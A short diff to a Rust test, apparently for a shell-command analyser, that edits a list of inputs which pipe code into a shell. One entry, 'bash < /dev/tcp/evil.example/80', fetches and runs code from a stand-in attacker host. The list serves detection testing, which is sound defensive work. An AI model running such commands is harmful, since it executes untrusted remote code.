@@ -105,7 +105,7 @@ fn code_piped_into_a_shell_is_analysed() {
         "cat - | bash",
         "bash < /dev/tcp/evil.example/80",
         "bash < \"$F\"",
-        "bash <(echo x)",
+        "bash <(some_prog)",
         "source <(some_prog)",
         ". /dev/stdin",
         "echo $X | sh",
